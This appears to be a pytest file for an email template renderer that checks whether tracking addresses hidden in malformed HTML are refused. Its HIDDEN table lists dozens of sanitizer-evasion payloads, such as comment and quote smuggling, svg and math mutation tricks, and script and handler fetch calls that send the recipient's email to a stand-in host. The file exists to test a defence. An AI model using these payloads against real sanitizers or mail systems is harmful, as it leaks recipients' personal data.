"""A mail is written so plainly that no program finds an address in it that we did not look at."""

import pytest

from yingtai.content.errors import AddressRefused, MarkupRefused, MistakeInPart
from yingtai.content.markup import trouble_in
from yingtai.content.rendering import compile_template
from yingtai.content.testing import make_template

VALUES = {
    "person": {"email": "anna@example.com", "tag": "img src=https://t.example/anna"},
    "unsubscribe_url": "https://m.example.com/u/1",
}
LOOK = "https://t.example/?e={{ person.email }}"
HIDDEN = {
    "comment in a quote": f'<!-- <a title="--><img src={LOOK}><b title="> --></b>',
    "link in a comment": f'<!-- <a title="--><a href={LOOK}>x</a><b title="> --></b>',
    "style in a quote": f'<style><a title="</style><img src={LOOK}><b title="> "></b>',
    "title in a quote": f'<title><a title="</title><a href={LOOK}>x</a><b title="> "></b>',
    "page in a frame": f'<iframe srcdoc="&lt;img src={LOOK}&gt;"></iframe>',
    "frame of an element": f'<p srcdoc="&lt;img src={LOOK}&gt;"></p>',
    "link to fetch": f'<link rel="preload" as="image" imagesrcset="{LOOK} 1x">',
    "conditional": f'<!--[if mso]><a title="<![endif]--><img src={LOOK}>"></a><![endif]-->',
    "revealed": f'<![if !mso]><b title="<![endif]><img src={LOOK}>"></b>',
    "textarea": f'<textarea><b title="</textarea><img src={LOOK}>"></textarea>',
    "noscript": f'<noscript><p title="</noscript><img src={LOOK}>"></noscript>',
    "xmp": f'<xmp><b title="</xmp><img src={LOOK}>"></xmp>',
    "drawing": f'<svg><style><a title="</style><img src={LOOK}>"></style></svg>',
    "formula": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src={LOOK}>">',
    "template": f'<template><img title="</template><img src={LOOK}>"></template>',
    "plaintext": f"<plaintext><img src={LOOK}>",
    "select": f"<select><style></select><img src={LOOK}></style>",
    "quote amid a value": f"<img title=a'b=' src={LOOK} '>",
    "no blank between": f'<img title="a"src={LOOK}>',
    "slash between": f"<img/src={LOOK}>",
    "quote in a name": f"<img \"title='src={LOOK}'>",
    "accent": f"<img title=`> src={LOOK}>`",
    "never closed": f'<p title="x><img src={LOOK}>',
    "comment ended early": f"<!--><img title='--><img src={LOOK}>'>",
    "comment ended oddly": f'<!-- --!><b title="--><img src={LOOK}>">',
    "instruction": f'<?x <b title="?><img src={LOOK}>">',
    "declaration": f'<!x <b title="><img src={LOOK}>">',
    "section": f'<![CDATA[ <b title="]]><img src={LOOK}>">',
    "end with a quote": f'</p title="><img src={LOOK}>">',
    "nothing before": f"<\0img src={LOOK}>",
    "name from a value": "<{{ person.tag }}>",
    "base": f'<base href="{LOOK}">',
    "form": f'<form action="{LOOK}"><button>x</button></form>',
    "button": f'<button formaction="{LOOK}">x</button>',
    "refresh": f'<meta http-equiv=" Refresh" content="0; {LOOK}">',
    "object": f'<object data="{LOOK}"></object>',
    "embed": f'<embed src="{LOOK}">',
    "handler": "<p onclick=\"fetch('https://t.example/{{ person.email }}')\">x</p>",
    "script": "<script>fetch('https://t.example/{{ person.email }}')</script>",
    "selector": '<style>p[title^="a"] { background: url(https://t.example/a) }</style><p title="{{ person.email }}">',
    "imported": '<style>@import "https://t.example/x.css";</style><p title="{{ person.email }}">',
}
ORDINARY = """<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/x.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" lang=en><head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><meta name="viewport" content="width=device-width">
<title>Hello {{ person.email }}</title><!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG/>
</o:OfficeDocumentSettings></xml><style>td { mso-line-height-rule: exactly }</style><![endif]-->
<style type="text/css"><!-- a[x-apple-data-detectors], p > b { color: red !important } --></style></head>
<body style="margin:0" bgcolor=#ffffff><!-- the head -->
<!--[if !mso]><!--><p>a < b, <3 & more</p><!--<![endif]--><![if gte mso 9]><p>x</p><![endif]>
<!--[if mso]><v:roundrect href="https://shop.example/x" arcsize="8%" fill="t"><v:imagedata src="https://i.example/1.png"/>
</v:roundrect><![endif]--><table role='presentation' width="100%"><tr><td background="https://i.example/2.png" nowrap>
<a href=https://shop.example/?a=1&b=2 target="_blank"><img src="https://i.example/1.png" alt="{{ person.email }}"></a>
<picture><source srcset="https://i.example/1.webp"><img src="https://i.example/1.png"/></picture>
<!-- <p>left out</p> --></td></tr></table><a href="{{ unsubscribe_url }}">Unsubscribe</a></body></html>"""


@pytest.mark.parametrize("html", HIDDEN.values(), ids=HIDDEN)
def test_an_address_hidden_in_twisted_html_is_not_sent(html):
    with pytest.raises(AddressRefused):
        compile_template("s", f"<p>{html}</p>").render(VALUES)


@pytest.mark.parametrize("html", HIDDEN.values(), ids=HIDDEN)
def test_twisted_html_that_liquid_writes_is_not_sent(html):
    written = "{% capture twisted %}" + html + "{% endcapture %}{{ twisted }}"

    with pytest.raises((AddressRefused, MistakeInPart)):
        compile_template("s", written).render(VALUES)


def test_what_mails_are_made_of_is_sent():
    sent = compile_template("s", ORDINARY).render(VALUES)

    assert sent.html.count("anna@example.com") == 2


def test_no_version_is_made_of_what_cannot_be_sent(acting, brand):
    with pytest.raises(MarkupRefused) as problem:
        make_template(acting, brand.node_no, html=f"<p>x</p>\n{HIDDEN['page in a frame']}")

    assert problem.value.facts == {"part": "HTML", "line": 2, "what": "<iframe>"}


def test_a_refusal_says_nothing_that_a_value_said():
    with pytest.raises(MarkupRefused) as problem:
        compile_template("s", "{{ '<' }}{{ person.email }}>").render(VALUES | {"person": {"email": "anna"}})

    assert problem.value.facts["what"] == "…"


@pytest.mark.parametrize("opening", ["<", "<a ", "<a x=", '<a x="', "<style>", "<title><!--", "<p x='y'"])
def test_a_mail_full_of_openings_is_read_once(opening):
    assert trouble_in(opening * 100_000)
